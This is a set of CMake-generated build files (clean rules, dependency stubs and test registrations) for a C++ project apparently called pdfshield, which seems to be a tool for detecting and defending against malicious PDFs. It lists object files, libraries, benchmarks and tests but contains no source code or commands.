  include(CMakeFiles/pdfshield_jsapi.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
