# Empty compiler generated dependencies file for pdfshield_jsapi.
# This may be replaced when dependencies are built.
