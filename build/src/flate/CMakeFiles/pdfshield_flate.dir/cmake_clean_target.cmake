file(REMOVE_RECURSE
  "libpdfshield_flate.a"
)
