file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_flate.dir/bitstream.cpp.o"
  "CMakeFiles/pdfshield_flate.dir/bitstream.cpp.o.d"
  "CMakeFiles/pdfshield_flate.dir/deflate.cpp.o"
  "CMakeFiles/pdfshield_flate.dir/deflate.cpp.o.d"
  "CMakeFiles/pdfshield_flate.dir/huffman.cpp.o"
  "CMakeFiles/pdfshield_flate.dir/huffman.cpp.o.d"
  "CMakeFiles/pdfshield_flate.dir/inflate.cpp.o"
  "CMakeFiles/pdfshield_flate.dir/inflate.cpp.o.d"
  "CMakeFiles/pdfshield_flate.dir/zlib.cpp.o"
  "CMakeFiles/pdfshield_flate.dir/zlib.cpp.o.d"
  "libpdfshield_flate.a"
  "libpdfshield_flate.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_flate.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
