
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/flate/bitstream.cpp" "src/flate/CMakeFiles/pdfshield_flate.dir/bitstream.cpp.o" "gcc" "src/flate/CMakeFiles/pdfshield_flate.dir/bitstream.cpp.o.d"
  "/root/repo/src/flate/deflate.cpp" "src/flate/CMakeFiles/pdfshield_flate.dir/deflate.cpp.o" "gcc" "src/flate/CMakeFiles/pdfshield_flate.dir/deflate.cpp.o.d"
  "/root/repo/src/flate/huffman.cpp" "src/flate/CMakeFiles/pdfshield_flate.dir/huffman.cpp.o" "gcc" "src/flate/CMakeFiles/pdfshield_flate.dir/huffman.cpp.o.d"
  "/root/repo/src/flate/inflate.cpp" "src/flate/CMakeFiles/pdfshield_flate.dir/inflate.cpp.o" "gcc" "src/flate/CMakeFiles/pdfshield_flate.dir/inflate.cpp.o.d"
  "/root/repo/src/flate/zlib.cpp" "src/flate/CMakeFiles/pdfshield_flate.dir/zlib.cpp.o" "gcc" "src/flate/CMakeFiles/pdfshield_flate.dir/zlib.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/pdfshield_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
