# Empty compiler generated dependencies file for pdfshield_flate.
# This may be replaced when dependencies are built.
