# Empty compiler generated dependencies file for pdfshield_js.
# This may be replaced when dependencies are built.
