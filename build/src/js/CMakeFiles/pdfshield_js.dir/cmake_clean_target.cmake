file(REMOVE_RECURSE
  "libpdfshield_js.a"
)
