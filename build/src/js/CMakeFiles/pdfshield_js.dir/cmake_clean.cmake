file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_js.dir/builtins.cpp.o"
  "CMakeFiles/pdfshield_js.dir/builtins.cpp.o.d"
  "CMakeFiles/pdfshield_js.dir/interp.cpp.o"
  "CMakeFiles/pdfshield_js.dir/interp.cpp.o.d"
  "CMakeFiles/pdfshield_js.dir/lexer.cpp.o"
  "CMakeFiles/pdfshield_js.dir/lexer.cpp.o.d"
  "CMakeFiles/pdfshield_js.dir/parser.cpp.o"
  "CMakeFiles/pdfshield_js.dir/parser.cpp.o.d"
  "libpdfshield_js.a"
  "libpdfshield_js.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_js.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
