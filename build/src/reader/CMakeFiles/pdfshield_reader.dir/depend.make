# Empty dependencies file for pdfshield_reader.
# This may be replaced when dependencies are built.
