file(REMOVE_RECURSE
  "libpdfshield_reader.a"
)
