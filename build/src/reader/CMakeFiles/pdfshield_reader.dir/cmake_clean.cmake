file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_reader.dir/browser_sim.cpp.o"
  "CMakeFiles/pdfshield_reader.dir/browser_sim.cpp.o.d"
  "CMakeFiles/pdfshield_reader.dir/reader_sim.cpp.o"
  "CMakeFiles/pdfshield_reader.dir/reader_sim.cpp.o.d"
  "CMakeFiles/pdfshield_reader.dir/shellcode.cpp.o"
  "CMakeFiles/pdfshield_reader.dir/shellcode.cpp.o.d"
  "CMakeFiles/pdfshield_reader.dir/vulnerability.cpp.o"
  "CMakeFiles/pdfshield_reader.dir/vulnerability.cpp.o.d"
  "libpdfshield_reader.a"
  "libpdfshield_reader.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_reader.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
