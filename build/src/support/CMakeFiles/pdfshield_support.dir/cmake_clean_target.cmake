file(REMOVE_RECURSE
  "libpdfshield_support.a"
)
