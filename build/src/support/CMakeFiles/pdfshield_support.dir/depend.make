# Empty dependencies file for pdfshield_support.
# This may be replaced when dependencies are built.
