file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_support.dir/checksum.cpp.o"
  "CMakeFiles/pdfshield_support.dir/checksum.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/encoding.cpp.o"
  "CMakeFiles/pdfshield_support.dir/encoding.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/json.cpp.o"
  "CMakeFiles/pdfshield_support.dir/json.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/md5.cpp.o"
  "CMakeFiles/pdfshield_support.dir/md5.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/rng.cpp.o"
  "CMakeFiles/pdfshield_support.dir/rng.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/stats.cpp.o"
  "CMakeFiles/pdfshield_support.dir/stats.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/strings.cpp.o"
  "CMakeFiles/pdfshield_support.dir/strings.cpp.o.d"
  "CMakeFiles/pdfshield_support.dir/table.cpp.o"
  "CMakeFiles/pdfshield_support.dir/table.cpp.o.d"
  "libpdfshield_support.a"
  "libpdfshield_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
