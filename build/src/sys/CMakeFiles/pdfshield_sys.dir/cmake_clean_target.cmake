file(REMOVE_RECURSE
  "libpdfshield_sys.a"
)
