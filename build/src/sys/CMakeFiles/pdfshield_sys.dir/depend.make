# Empty dependencies file for pdfshield_sys.
# This may be replaced when dependencies are built.
