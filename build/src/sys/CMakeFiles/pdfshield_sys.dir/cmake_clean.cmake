file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_sys.dir/kernel.cpp.o"
  "CMakeFiles/pdfshield_sys.dir/kernel.cpp.o.d"
  "libpdfshield_sys.a"
  "libpdfshield_sys.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_sys.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
