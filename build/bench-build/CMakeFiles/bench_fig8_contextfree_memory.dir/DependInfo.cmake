
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_fig8_contextfree_memory.cpp" "bench-build/CMakeFiles/bench_fig8_contextfree_memory.dir/bench_fig8_contextfree_memory.cpp.o" "gcc" "bench-build/CMakeFiles/bench_fig8_contextfree_memory.dir/bench_fig8_contextfree_memory.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/pdfshield_core.dir/DependInfo.cmake"
  "/root/repo/build/src/corpus/CMakeFiles/pdfshield_corpus.dir/DependInfo.cmake"
  "/root/repo/build/src/baselines/CMakeFiles/pdfshield_baselines.dir/DependInfo.cmake"
  "/root/repo/build/src/ml/CMakeFiles/pdfshield_ml.dir/DependInfo.cmake"
  "/root/repo/build/src/reader/CMakeFiles/pdfshield_reader.dir/DependInfo.cmake"
  "/root/repo/build/src/pdf/CMakeFiles/pdfshield_pdf.dir/DependInfo.cmake"
  "/root/repo/build/src/flate/CMakeFiles/pdfshield_flate.dir/DependInfo.cmake"
  "/root/repo/build/src/jsapi/CMakeFiles/pdfshield_jsapi.dir/DependInfo.cmake"
  "/root/repo/build/src/js/CMakeFiles/pdfshield_js.dir/DependInfo.cmake"
  "/root/repo/build/src/sys/CMakeFiles/pdfshield_sys.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pdfshield_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
