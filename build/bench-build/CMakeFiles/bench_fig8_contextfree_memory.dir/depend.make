# Empty dependencies file for bench_fig8_contextfree_memory.
# This may be replaced when dependencies are built.
