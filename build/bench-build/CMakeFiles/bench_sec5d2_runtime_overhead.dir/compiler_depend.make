# Empty compiler generated dependencies file for bench_sec5d2_runtime_overhead.
# This may be replaced when dependencies are built.
