file(REMOVE_RECURSE
  "../bench/bench_sec4_adversarial"
  "../bench/bench_sec4_adversarial.pdb"
  "CMakeFiles/bench_sec4_adversarial.dir/bench_sec4_adversarial.cpp.o"
  "CMakeFiles/bench_sec4_adversarial.dir/bench_sec4_adversarial.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_sec4_adversarial.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
