# Empty compiler generated dependencies file for bench_sec4_adversarial.
# This may be replaced when dependencies are built.
