file(REMOVE_RECURSE
  "../bench/bench_sec6_extensions"
  "../bench/bench_sec6_extensions.pdb"
  "CMakeFiles/bench_sec6_extensions.dir/bench_sec6_extensions.cpp.o"
  "CMakeFiles/bench_sec6_extensions.dir/bench_sec6_extensions.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_sec6_extensions.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
