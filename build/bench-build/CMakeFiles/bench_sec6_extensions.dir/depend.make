# Empty dependencies file for bench_sec6_extensions.
# This may be replaced when dependencies are built.
