file(REMOVE_RECURSE
  "../bench/bench_table7_parameters"
  "../bench/bench_table7_parameters.pdb"
  "CMakeFiles/bench_table7_parameters.dir/bench_table7_parameters.cpp.o"
  "CMakeFiles/bench_table7_parameters.dir/bench_table7_parameters.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table7_parameters.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
