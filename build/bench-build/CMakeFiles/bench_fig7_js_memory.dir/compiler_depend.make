# Empty compiler generated dependencies file for bench_fig7_js_memory.
# This may be replaced when dependencies are built.
