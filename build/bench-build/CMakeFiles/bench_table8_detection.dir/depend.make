# Empty dependencies file for bench_table8_detection.
# This may be replaced when dependencies are built.
