# Empty compiler generated dependencies file for bench_table6_static_stats.
# This may be replaced when dependencies are built.
