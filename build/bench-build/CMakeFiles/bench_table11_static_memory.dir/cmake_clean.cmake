file(REMOVE_RECURSE
  "../bench/bench_table11_static_memory"
  "../bench/bench_table11_static_memory.pdb"
  "CMakeFiles/bench_table11_static_memory.dir/bench_table11_static_memory.cpp.o"
  "CMakeFiles/bench_table11_static_memory.dir/bench_table11_static_memory.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table11_static_memory.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
