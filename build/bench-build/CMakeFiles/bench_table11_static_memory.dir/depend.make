# Empty dependencies file for bench_table11_static_memory.
# This may be replaced when dependencies are built.
