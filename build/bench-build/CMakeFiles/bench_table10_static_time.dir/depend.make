# Empty dependencies file for bench_table10_static_time.
# This may be replaced when dependencies are built.
