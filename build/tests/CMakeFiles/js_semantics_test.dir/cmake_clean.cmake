file(REMOVE_RECURSE
  "CMakeFiles/js_semantics_test.dir/js_semantics_test.cpp.o"
  "CMakeFiles/js_semantics_test.dir/js_semantics_test.cpp.o.d"
  "js_semantics_test"
  "js_semantics_test.pdb"
  "js_semantics_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/js_semantics_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
