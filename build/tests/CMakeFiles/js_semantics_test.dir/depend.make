# Empty dependencies file for js_semantics_test.
# This may be replaced when dependencies are built.
