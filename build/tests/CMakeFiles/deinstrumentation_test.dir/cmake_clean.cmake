file(REMOVE_RECURSE
  "CMakeFiles/deinstrumentation_test.dir/deinstrumentation_test.cpp.o"
  "CMakeFiles/deinstrumentation_test.dir/deinstrumentation_test.cpp.o.d"
  "deinstrumentation_test"
  "deinstrumentation_test.pdb"
  "deinstrumentation_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/deinstrumentation_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
