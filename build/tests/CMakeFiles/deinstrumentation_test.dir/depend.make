# Empty dependencies file for deinstrumentation_test.
# This may be replaced when dependencies are built.
