file(REMOVE_RECURSE
  "CMakeFiles/wrapper_semantics_test.dir/wrapper_semantics_test.cpp.o"
  "CMakeFiles/wrapper_semantics_test.dir/wrapper_semantics_test.cpp.o.d"
  "wrapper_semantics_test"
  "wrapper_semantics_test.pdb"
  "wrapper_semantics_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/wrapper_semantics_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
