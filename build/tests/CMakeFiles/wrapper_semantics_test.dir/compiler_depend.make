# Empty compiler generated dependencies file for wrapper_semantics_test.
# This may be replaced when dependencies are built.
