file(REMOVE_RECURSE
  "CMakeFiles/pdf_test.dir/pdf_test.cpp.o"
  "CMakeFiles/pdf_test.dir/pdf_test.cpp.o.d"
  "pdf_test"
  "pdf_test.pdb"
  "pdf_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdf_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
