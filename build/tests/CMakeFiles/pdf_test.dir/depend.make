# Empty dependencies file for pdf_test.
# This may be replaced when dependencies are built.
