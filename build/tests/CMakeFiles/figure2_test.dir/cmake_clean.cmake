file(REMOVE_RECURSE
  "CMakeFiles/figure2_test.dir/figure2_test.cpp.o"
  "CMakeFiles/figure2_test.dir/figure2_test.cpp.o.d"
  "figure2_test"
  "figure2_test.pdb"
  "figure2_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/figure2_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
