file(REMOVE_RECURSE
  "CMakeFiles/xref_test.dir/xref_test.cpp.o"
  "CMakeFiles/xref_test.dir/xref_test.cpp.o.d"
  "xref_test"
  "xref_test.pdb"
  "xref_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/xref_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
