# Empty compiler generated dependencies file for xref_test.
# This may be replaced when dependencies are built.
