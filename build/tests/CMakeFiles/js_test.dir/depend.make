# Empty dependencies file for js_test.
# This may be replaced when dependencies are built.
