# Empty compiler generated dependencies file for hookmode_test.
# This may be replaced when dependencies are built.
