file(REMOVE_RECURSE
  "CMakeFiles/hookmode_test.dir/hookmode_test.cpp.o"
  "CMakeFiles/hookmode_test.dir/hookmode_test.cpp.o.d"
  "hookmode_test"
  "hookmode_test.pdb"
  "hookmode_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hookmode_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
