# Empty compiler generated dependencies file for objstm_test.
# This may be replaced when dependencies are built.
