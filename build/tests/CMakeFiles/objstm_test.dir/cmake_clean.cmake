file(REMOVE_RECURSE
  "CMakeFiles/objstm_test.dir/objstm_test.cpp.o"
  "CMakeFiles/objstm_test.dir/objstm_test.cpp.o.d"
  "objstm_test"
  "objstm_test.pdb"
  "objstm_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/objstm_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
