file(REMOVE_RECURSE
  "CMakeFiles/embedded_test.dir/embedded_test.cpp.o"
  "CMakeFiles/embedded_test.dir/embedded_test.cpp.o.d"
  "embedded_test"
  "embedded_test.pdb"
  "embedded_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/embedded_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
