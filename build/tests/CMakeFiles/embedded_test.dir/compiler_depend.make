# Empty compiler generated dependencies file for embedded_test.
# This may be replaced when dependencies are built.
