# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/support_test[1]_include.cmake")
include("/root/repo/build/tests/flate_test[1]_include.cmake")
include("/root/repo/build/tests/pdf_test[1]_include.cmake")
include("/root/repo/build/tests/js_test[1]_include.cmake")
include("/root/repo/build/tests/sys_test[1]_include.cmake")
include("/root/repo/build/tests/reader_test[1]_include.cmake")
include("/root/repo/build/tests/core_test[1]_include.cmake")
include("/root/repo/build/tests/ml_test[1]_include.cmake")
include("/root/repo/build/tests/corpus_test[1]_include.cmake")
include("/root/repo/build/tests/baselines_test[1]_include.cmake")
include("/root/repo/build/tests/crypto_test[1]_include.cmake")
include("/root/repo/build/tests/embedded_test[1]_include.cmake")
include("/root/repo/build/tests/deinstrumentation_test[1]_include.cmake")
include("/root/repo/build/tests/objstm_test[1]_include.cmake")
include("/root/repo/build/tests/report_test[1]_include.cmake")
include("/root/repo/build/tests/robustness_test[1]_include.cmake")
include("/root/repo/build/tests/hookmode_test[1]_include.cmake")
include("/root/repo/build/tests/browser_test[1]_include.cmake")
include("/root/repo/build/tests/js_semantics_test[1]_include.cmake")
include("/root/repo/build/tests/incremental_test[1]_include.cmake")
include("/root/repo/build/tests/wrapper_semantics_test[1]_include.cmake")
include("/root/repo/build/tests/figure2_test[1]_include.cmake")
include("/root/repo/build/tests/xref_test[1]_include.cmake")
include("/root/repo/build/tests/session_test[1]_include.cmake")
