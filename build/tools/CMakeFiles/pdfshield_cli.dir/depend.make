# Empty dependencies file for pdfshield_cli.
# This may be replaced when dependencies are built.
