file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_cli.dir/pdfshield_cli.cpp.o"
  "CMakeFiles/pdfshield_cli.dir/pdfshield_cli.cpp.o.d"
  "pdfshield"
  "pdfshield.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_cli.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
