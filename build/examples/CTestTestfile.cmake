# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;14;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_scan_and_instrument "/root/repo/build/examples/scan_and_instrument")
set_tests_properties(example_scan_and_instrument PROPERTIES  WORKING_DIRECTORY "/root/repo/build" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;15;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_attack_lab "/root/repo/build/examples/attack_lab")
set_tests_properties(example_attack_lab PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;16;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_baseline_shootout "/root/repo/build/examples/baseline_shootout" "30")
set_tests_properties(example_baseline_shootout PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_browser_defense "/root/repo/build/examples/browser_defense")
set_tests_properties(example_browser_defense PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;18;add_test;/root/repo/examples/CMakeLists.txt;0;")
