# Empty compiler generated dependencies file for browser_defense.
# This may be replaced when dependencies are built.
