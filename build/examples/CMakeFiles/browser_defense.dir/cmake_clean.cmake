file(REMOVE_RECURSE
  "CMakeFiles/browser_defense.dir/browser_defense.cpp.o"
  "CMakeFiles/browser_defense.dir/browser_defense.cpp.o.d"
  "browser_defense"
  "browser_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/browser_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
