# Empty compiler generated dependencies file for scan_and_instrument.
# This may be replaced when dependencies are built.
