file(REMOVE_RECURSE
  "CMakeFiles/scan_and_instrument.dir/scan_and_instrument.cpp.o"
  "CMakeFiles/scan_and_instrument.dir/scan_and_instrument.cpp.o.d"
  "scan_and_instrument"
  "scan_and_instrument.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/scan_and_instrument.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
